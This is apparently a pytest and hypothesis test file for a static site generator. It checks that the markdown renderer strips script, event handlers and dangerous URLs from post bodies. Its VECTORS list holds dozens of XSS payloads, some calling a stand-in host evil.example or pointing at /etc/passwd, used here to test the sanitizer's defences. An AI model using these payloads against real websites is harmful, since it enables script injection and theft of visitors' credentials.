"""Nothing in a body may run, load or forge."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ssg.markdown import render_markdown
from ssg.markdown.allowed import TAGS
from ssg.model.rendered import SLOT_CLOSE, SLOT_OPEN
from ssg.model.settings import MarkdownSettings
from ssg.model.source import SourceMap

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='https://evil.example/x 1x' src=a.png>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x0bjavascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a><a href=data:text/html,x>x</a><a href=file:///etc/passwd>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1)) ![y](data:text/html;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x](https://a.b){onclick=alert(1)}",
    "[x](https://a.b){href=javascript:alert(1)}",
    '{onclick="alert(1)" style="x"}\npara',
    "## x {onclick=alert(1)}",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>x</script>'>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=//evil.example><input name=p type=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)><input type=image src=x><textarea>x</textarea><select>",
    "<input type=checkbox onclick=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:x);width:expression(alert(1));position:fixed'>x</p>",
    "<div style='text-align:center;behavior:url(x)'>x</div>",
    "<video src=x onerror=alert(1)><audio src=x><source src=x><track src=x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)><html onclick=x><head>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><% x %>",
    "<a href=https://a.b target=_blank ping=https://evil.example download>x</a>",
    "<a name=x id=main>x</a><img name=cookie src=a.png>",
    '```"><script>alert(1)</script>\nx\n```',
    '```py title="</figcaption><script>alert(1)</script>"\nx\n```',
    '!!! note "<script>alert(1)</script>"\n    x',
    "> [!NOTE]\n> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "{% post_url \"><script>alert(1)</script> %}",
    "[x]({% post_url \"><script>alert(1)</script> %})",
    "<a href=\"{% post_url x'onclick=alert(1) %}\">x</a>",
    "<a href={{x}}>x</a> <a href='{{ \" onclick=alert(1) }}'>x</a>",
    "https://a.b/\"onmouseover=alert(1)",
    "<p role=main aria-label=x tabindex=0 contenteditable accesskey=x>x</p>",
    "<section role=doc-endnotes aria-labelledby=footnotes-title>x</section>",
    "<bdo dir=rtl>x</bdo><marquee>x</marquee><blink>x</blink><portal src=x>",
    "<a xlink:href=javascript:alert(1)>x</a><p xmlns=x is=y slot=z>",
    "<div class=table-scroll data-l='9 onclick=x' data-i=x>x</div>",
]  # fmt: skip
ATTRIBUTE_NAMES = (
    "id class title lang dir href rel src alt width height loading type checked disabled colspan "
    "rowspan scope start reversed value open datetime role aria-label aria-labelledby tabindex "
    "data-lang"
)
ATTRIBUTES = set(ATTRIBUTE_NAMES.split())
SLOT = re.compile(f"{SLOT_OPEN}[0-9]+{SLOT_CLOSE}")
ABSOLUTE = re.compile(r"(?:https?|mailto|tel):|//|#|\\\\|/\\|\\/", re.IGNORECASE)


class Walker(HTMLParser):
    """Collects what a browser would see in a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.urls: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag == "input":
            assert ("type", "checkbox") in attrs
            assert "disabled" in dict(attrs)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("href", "src"):
                self.urls.append(value)
            if name == "id":
                self.ids.append(value)


def check(body: str) -> str:
    value = render_markdown(
        body,
        path="posts/a.md",
        source_map=SourceMap(tuple(range(1, body.count("\n") + 3))),
        settings=MarkdownSettings(),
    ).value
    seen = Walker(value.html)
    assert seen.tags <= TAGS
    assert seen.attributes <= ATTRIBUTES
    assert len(set(seen.ids)) == len(seen.ids)
    assert tuple(seen.ids) == value.anchors
    for url in seen.urls:
        assert SLOT.fullmatch(url) or ABSOLUTE.match(url), url
    slots = SLOT.findall(value.html)
    assert slots == [f"{SLOT_OPEN}{n}{SLOT_CLOSE}" for n in range(len(value.links))]
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufdd0-\ufdef]", SLOT.sub("", value.html))
    assert all(heading.anchor in value.anchors for heading in value.toc)
    return value.html


@pytest.mark.parametrize("body", VECTORS)
def test_vectors_come_out_harmless(body):
    html = check(f"text.\n\n{body}\n")
    live = re.sub(r"<code[^>]*>.*?</code>|>[^<]*<", "><", html, flags=re.DOTALL)
    live = re.sub(r' (?:id|title|alt|data-lang|class)="[^"]*"', "", live)
    for word in ("script", "onerror", "onclick", "onload", "evil.example", "expression", "data:"):
        assert word not in live.lower()


PIECES = st.sampled_from(
    [
        *VECTORS,
        *("\n", "\n\n", "    ", "> ", "- ", "# ", "|", "`", "```\n", "**", "[^1]", "{", "}", "あ"),
        *('<a id="x">', "</p>", "<h1>", "&#2;", "&#xFDD0;0&#xFDD1;", "\x02", "\x03", "\ufdd00"),
        *(
            "## a\n",
            "<b id=a>",
            "{#a}",
            "[x](a.md)",
            "<a href='b.md'>",
            "{% post_url c %}",
            "'",
            '"',
        ),
    ]
)


@given(st.lists(PIECES, max_size=12).map("".join))
def test_any_mixture_comes_out_harmless(body):
    check(body)


@settings(derandomize=True, max_examples=300)
@given(st.lists(PIECES, max_size=6).map("".join))
def test_no_mixture_costs_the_text_after_it(body):
    assert "最後の段落" in check(f"{body}\n\n最後の段落\n")


@given(st.text(max_size=60))
def test_any_text_comes_out_harmless(body):
    check(body)


def test_slots_cannot_be_forged(render):
    body = "\x020\x03 &#2;0&#3; <p title='&#2;0&#3;'>&#2;0&#3;</p> [a](b.md) [c](%020%03)\n"
    value = render(body).value
    assert len(SLOT.findall(value.html)) == len(value.links) == 2
    assert value.links[1].target == "%020%03"


def test_content_of_removed_elements_is_removed_where_it_is_no_text(render):
    value = render("a <script>b</script> c <font>d</font>\n").value
    assert value.html == "<p>a  c d</p>\n"
    assert value.text == "a  c d"


def test_what_is_left_out_is_told(told):
    assert told("text.\n\n<iframe src=x></iframe>\n") == [("SSG312", 3)]
    assert told("text.\n\n<p onclick=x>a</p>\n") == [("SSG312", 3)]


def test_rel_keeps_what_says_something_of_the_link(html):
    body = '<a href="https://a.b" rel="nofollow prefetch sponsored">x</a>\n'
    assert html(body) == '<p><a href="https://a.b" rel="nofollow sponsored">x</a></p>'


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ('<img src="a.png" alt="x" width="50%" height="20">', 'src="⟦0⟧" alt="x" height="20"'),
        ('<img src="a.png" alt="x" loading="fast">', 'src="⟦0⟧" alt="x"'),
        ('<img src="a.png" alt="x" loading="lazy">', 'src="⟦0⟧" alt="x" loading="lazy"'),
        ('<span lang="en-GB" dir="ltr">', 'lang="en-GB" dir="ltr"'),
        ('<span lang="!" dir="up">', ""),
        ('<time datetime="2025-10-21T02:15+09:00">', 'datetime="2025-10-21T02:15+09:00"'),
        ('<time datetime="yesterday">', ""),
    ],
)
def test_values_are_what_html_knows(html, written, kept):
    tag = written[1:].split()[0]
    assert html(f"a {written}b\n").startswith(f"<p>a <{tag}{' ' if kept else ''}{kept}>b")


def test_an_id_used_twice_is_left_out_and_told(html, told):
    body = "<p id=a>x</p>\n\n<p id=a>y</p>\n"
    assert html(body) == '<p id="a">x</p>\n<p>y</p>'
    assert [code for code, _ in told(body)] == ["SSG307"]


def test_good_html_stays(html):
    ruby = "<ruby>漢字<rp>（</rp><rt>かんじ</rt><rp>）</rp></ruby>"
    assert html(f"{ruby} <kbd>a</kbd> <abbr title='x'>y</abbr>\n") == (
        f'<p>{ruby} <kbd>a</kbd> <abbr title="x">y</abbr></p>'
    )
